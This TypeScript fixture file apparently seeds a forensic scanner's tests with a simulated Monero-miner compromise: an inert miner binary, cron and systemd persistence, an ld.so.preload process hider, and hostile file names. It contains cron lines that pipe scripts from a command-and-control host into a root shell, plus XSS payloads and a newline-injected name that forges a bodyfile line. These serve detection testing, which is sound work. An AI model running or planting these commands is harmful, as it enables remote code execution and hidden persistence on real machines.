/** The miner and what starts it: cron, a service, the preload library that hides it. */
import { type Entry, file, symlink } from "../tree/entry";
import { inertElf } from "../tree/inert";
import { story, thatNight } from "../tree/story";
import { artefact, type Artefact } from "./artefact";

const minerDirectory = "/var/tmp/.font-unix";
const minerPath = `${minerDirectory}/kworkerd`;
const pool = `stratum+tcp://${story.commandAndControl}:3333`;

const miner: Entry = file(
    minerPath,
    inertElf("kworkerd", ["xmrig", pool, "donate-level", "randomx", "cryptonight", "--coin=monero"], 24_576),
    { modified: thatNight("03:18:40"), mode: 0o755 },
);
const minerConfiguration: Entry = file(
    `${minerDirectory}/config.json`,
    [
        JSON.stringify(
            {
                autosave: true,
                cpu: true,
                "donate-level": 0,
                pools: [{ url: pool, user: "not-a-wallet", pass: "x", algo: "rx/0", "rig-id": "<script>document.title='owned'</script>" }],
            },
            null,
            2,
        ),
    ],
    { modified: thatNight("03:18:55"), mode: 0o600 },
);

export const executionArtefacts: readonly Artefact[] = [
    artefact({
        id: "yara-miner",
        volume: "root",
        check: "yara",
        severityAtLeast: "high",
        attack: ["T1496"],
        entries: [miner],
        note: "ELF header and a coin miner's strings (xmrig, stratum+tcp://); it cannot run.",
    }),
    artefact({
        id: "yara-miner-configuration",
        volume: "root",
        check: "yara",
        severityAtLeast: "medium",
        attack: ["T1496"],
        hostileText: true,
        entries: [minerConfiguration],
        note: "The miner's configuration with pool address and markup in a value.",
    }),
    artefact({
        id: "temporary-hidden-directory",
        volume: "root",
        check: "temporary-executables",
        path: minerPath,
        severityAtLeast: "medium",
        attack: ["T1564.001"],
        entries: [miner],
        note: "An executable in a hidden directory of /var/tmp, named like a kernel thread.",
    }),
    artefact({
        id: "cron-miner",
        volume: "root",
        check: "cron",
        severityAtLeast: "high",
        attack: ["T1053.003"],
        hostileText: true,
        entries: [
            file(
                "/etc/cron.d/0sysupdate",
                [
                    "# <script>document.title='owned'</script>",
                    "SHELL=/bin/bash",
                    `*/10 * * * * root curl -fsSL http://${story.commandAndControl}/kw.sh | bash >/dev/null 2>&1`,
                ],
                { modified: thatNight("03:20:11") },
            ),
        ],
        note: "Downloads a script every ten minutes and gives it to bash as root.",
    }),
    artefact({
        id: "cron-user-crontab",
        volume: "root",
        check: "cron",
        severityAtLeast: "medium",
        attack: ["T1053.003"],
        entries: [
            file(
                "/var/spool/cron/apache",
                [`@reboot ${minerPath} -c ${minerDirectory}/config.json`, `*/5 * * * * pgrep kworkerd || ${minerPath}`],
                { modified: thatNight("04:08:30"), mode: 0o600, uid: 48, gid: 48 },
            ),
        ],
        note: "A crontab of the web server's user that starts the miner again.",
    }),
    artefact({
        id: "cron-newest",
        volume: "root",
        check: "cron",
        severityAtLeast: "high",
        attack: ["T1053.003"],
        needsJournalReplay: true,
        entries: [
            file("/etc/cron.d/zz-certwatch", [`*/3 * * * * root wget -qO- http://${story.commandAndControl}/r | sh`], {
                modified: thatNight("04:21:02"),
            }),
        ],
        note: "The newest cron file: committed to the XFS log, not yet checkpointed when the snapshot was taken.",
    }),
    artefact({
        id: "systemd-miner",
        volume: "root",
        check: "systemd",
        severityAtLeast: "high",
        attack: ["T1543.002"],
        entries: [
            file(
                "/etc/systemd/system/kworkerd.service",
                [
                    "[Unit]",
                    "Description=Kernel worker daemon",
                    "After=network-online.target",
                    "",
                    "[Service]",
                    `ExecStart=${minerPath} -c ${minerDirectory}/config.json`,
                    "Restart=always",
                    "Nice=10",
                    "",
                    "[Install]",
                    "WantedBy=multi-user.target",
                ],
                { modified: thatNight("03:19:20") },
            ),
            symlink("/etc/systemd/system/multi-user.target.wants/kworkerd.service", "/etc/systemd/system/kworkerd.service", {
                modified: thatNight("03:19:22"),
            }),
        ],
        note: "A service that starts a program in /var/tmp.",
    }),
    artefact({
        id: "ld-preload-rootkit",
        volume: "root",
        check: "ld-preload",
        severityAtLeast: "high",
        attack: ["T1574.006"],
        entries: [
            file("/etc/ld.so.preload", ["/usr/local/lib/libprocesshider.so"], { modified: thatNight("03:22:47") }),
            file(
                "/usr/local/lib/libprocesshider.so",
                inertElf("libprocesshider", ["readdir64", "/proc/self/fd/%d", "process_to_filter", "kworkerd"], 12_288),
                { modified: thatNight("03:22:40"), mode: 0o755 },
            ),
        ],
        note: "A library loaded into every process, named after a known process hider; it holds strings, no code.",
    }),
    artefact({
        id: "temporary-hostile-name",
        volume: "root",
        check: "temporary-executables",
        severityAtLeast: "medium",
        attack: [],
        hostileText: true,
        entries: [
            file("/tmp/<script>document.title='owned'</script>", inertElf("hostile-name", [], 512), {
                modified: thatNight("03:41:10"),
                mode: 0o755,
            }),
        ],
        note: 'A slash cannot be in a name, so this is the file "script>" in a directory: the whole path is the markup.',
    }),
    artefact({
        id: "temporary-hostile-attribute",
        volume: "root",
        check: "temporary-executables",
        severityAtLeast: "medium",
        attack: [],
        hostileText: true,
        entries: [
            file("/var/tmp/\"><img src=x onerror=document.title='owned'>", inertElf("hostile-attribute", [], 512), {
                modified: thatNight("03:41:30"),
                mode: 0o755,
            }),
        ],
        note: "A name that breaks out of an HTML attribute.",
    }),
    artefact({
        id: "temporary-newline-name",
        volume: "root",
        check: "temporary-executables",
        severityAtLeast: "medium",
        attack: ["T1564.001"],
        hostileText: true,
        entries: [
            file("/tmp/.update\n0|innocent|0|-rw-r--r--|0|0|0|0|0|0|0", inertElf("newline-name", [], 512), {
                modified: thatNight("03:42:00"),
                mode: 0o755,
            }),
        ],
        note: "A name with a newline that forges a second bodyfile line.",
    }),
];
